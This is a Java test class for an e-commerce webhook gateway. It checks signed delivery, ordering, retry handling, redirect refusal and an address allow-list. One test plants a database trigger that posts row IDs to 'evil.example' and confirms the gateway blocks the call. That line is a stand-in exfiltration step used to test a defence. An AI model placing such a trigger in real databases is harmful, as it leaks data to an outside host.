package com.tarcommerce.gateway.event;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.tarcommerce.common.signature.Secrets;
import com.tarcommerce.common.signature.StandardWebhooks;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Events for the addresses of others. */
class ForeignTests extends WithGateway {

    @AfterEach
    void itAnswersAgain() {
        FOREIGN.answer(_ -> StandIn.Answer.of(200));
        jdbc.sql("drop trigger if exists to_nowhere").update();
    }

    @Test
    void anAllowedAddressGetsTheBodySignedWithTheKeyOfItsOrigin() {
        var shop = shop();

        post(shop, "/hooks/orders?shop=1", "{\"tenant_id\":\"%s\",\"id\":\"1\",\"note\":\"it's ₹5\"}");

        await().untilAsserted(() -> assertThat(calls(shop)).hasSize(1));
        var call = calls(shop).getFirst();
        var headers = call.headers();
        var key = new StandardWebhooks(Secrets.parse("s", SECRET).derive("url:" + FOREIGN.url()), clock);
        assertThat(call.path()).isEqualTo("/hooks/orders");
        assertThat(call.body()).contains("it's ₹5");
        assertThat(headers.get("webhook-id")).startsWith("msg_").hasSize(36);
        assertThat(key.verify(headers.get("webhook-id"), headers.get("webhook-timestamp"),
                headers.get("webhook-signature"), call.body().getBytes(StandardCharsets.UTF_8))).isTrue();
        await().untilAsserted(() -> assertThat(shop.posts()).isZero());
    }

    @Test
    void whatIsOneLaneArrivesInItsOrder() {
        var shop = shop();

        transaction.executeWithoutResult(_ -> {
            for (int number = 0; number < 5; number++) {
                post(shop, "/hooks", "{\"tenant_id\":\"%s\",\"id\":\"1\",\"n\":" + number + "}");
            }
        });

        await().untilAsserted(() -> assertThat(calls(shop)).hasSize(5));
        assertThat(calls(shop)).extracting(call -> call.body().replaceAll(".*\"n\":(\\d).*", "$1"))
                .containsExactly("0", "1", "2", "3", "4");
    }

    @Test
    void aRedirectIsNotFollowed() {
        var shop = shop();
        FOREIGN.answer(
                _ -> new StandIn.Answer(302, "", Map.of("Location", FOREIGN.url() + "/elsewhere")));

        post(shop, "/hooks", "{\"tenant_id\":\"%s\",\"id\":\"1\"}");

        await().untilAsserted(() -> assertThat(column(shop, "refusals")).isEqualTo("1"));
        assertThat(column(shop, "last_error")).isEqualTo("answered 302");
        assertThat(FOREIGN.calls()).noneMatch(call -> call.path().equals("/elsewhere"));
    }

    @Test
    void itIsTriedAgainWhenItAsksToBe() {
        var shop = shop();
        FOREIGN.answer(_ -> new StandIn.Answer(429, "", Map.of("Retry-After", "120")));
        var before = clock.millis();

        post(shop, "/hooks", "{\"tenant_id\":\"%s\",\"id\":\"1\"}");
        await().untilAsserted(() -> assertThat(column(shop, "attempts")).isEqualTo("1"));
        assertThat(Long.parseLong(column(shop, "next_at"))).isEqualTo(before + 120_000);
        FOREIGN.answer(_ -> StandIn.Answer.of(200));
        clock.advance(Duration.ofSeconds(121));

        await().untilAsserted(() -> assertThat(shop.posts()).isZero());
        assertThat(calls(shop)).hasSize(2);
        assertThat(calls(shop).getFirst().headers().get("webhook-id"))
                .isEqualTo(calls(shop).getLast().headers().get("webhook-id"));
    }

    @Test
    void aRefusalThatAsksForTimeCountsAndIsGivenIt() {
        var shop = shop();
        FOREIGN.answer(_ -> new StandIn.Answer(400, "", Map.of("Retry-After", "120")));
        var before = clock.millis();

        post(shop, "/hooks", "{\"tenant_id\":\"%s\",\"id\":\"1\"}");

        await().untilAsserted(() -> assertThat(column(shop, "refusals")).isEqualTo("1"));
        assertThat(Long.parseLong(column(shop, "next_at"))).isEqualTo(before + 120_000);
    }

    @Test
    void nobodyThereIsNoRefusal() {
        var shop = shop();

        jdbc.sql("select lib_http_post(:url, :body)").param("url", NOBODY + "/hooks")
                .param("body", "{\"tenant_id\":\"" + shop.id + "\",\"id\":\"1\"}").query((_, _) -> "").list();

        await().untilAsserted(() -> assertThat(column(shop, "attempts")).isEqualTo("1"));
        assertThat(column(shop, "refusals")).isEqualTo("0");
        assertThat(column(shop, "last_error")).isEqualTo("no answer: ConnectException");
    }

    @Test
    void aForeignAddressThatIsAwayDelaysNoAlert() {
        var shop = shop().withRoom("orders").withOrder("1001", "pending", 100);
        FOREIGN.answer(_ -> StandIn.Answer.of(503));

        transaction.executeWithoutResult(_ -> {
            post(shop, "/hooks", "{\"tenant_id\":\"%s\",\"id\":\"1001\"}");
            shop.update("order", "1001", "status = 'paid'");
        });

        await().untilAsserted(() -> assertThat(OUTBOUND.told(shop.id)).hasSize(1));
        await().untilAsserted(() -> assertThat(column(shop, "attempts")).isEqualTo("1"));
    }

    @Test
    void anAddressThatIsNotAllowedFailsTheStatementAndChangesNothing() {
        jdbc.sql("""
                create trigger to_nowhere after update of name on nodes begin
                    select lib_http_post('https://evil.example/hook', json_object('id', NEW.id));
                end
                """).update();
        var shop = shop().withOrder("1", "pending", 1).withOrder("2", "pending", 1);

        assertThatThrownBy(() -> shop.update("order", "1", "name = 'changed'"))
                .rootCause().hasMessageContaining("lib_http_post: the address is neither mapped nor allowed")
                .hasMessageContaining("TAR_WEBHOOK_ALLOW");
        transaction.executeWithoutResult(_ -> {
            shop.update("order", "2", "status = 'packed'");
            assertThatThrownBy(() -> jdbc.sql("update nodes set name = 'changed' where tenant_id = :tenant")
                    .param("tenant", shop.id).update()).rootCause().hasMessageContaining("TAR_WEBHOOK_ALLOW");
        });

        assertThat(shop.column("order", "1", "name")).isEmpty();
        assertThat(shop.column("order", "2", "name")).isEmpty();
        assertThat(shop.column("order", "2", "status")).isEqualTo("packed");
        assertThat(shop.posts()).isZero();
    }

    private void post(Shop shop, String path, String body) {
        jdbc.sql("select lib_http_post(:url, :body)").param("url", FOREIGN.url() + path)
                .param("body", body.formatted(shop.id)).query((_, _) -> "").list();
    }

    private static List<StandIn.Call> calls(Shop shop) {
        return FOREIGN.calls().stream().filter(call -> call.body().contains(shop.id)).toList();
    }

    private String column(Shop shop, String column) {
        return jdbc.sql("select " + column + " from webhook_outbox where lane like :lane and url like '%/hooks'")
                .param("lane", shop.id + "|%").query(String.class).optional().orElse("");
    }
}
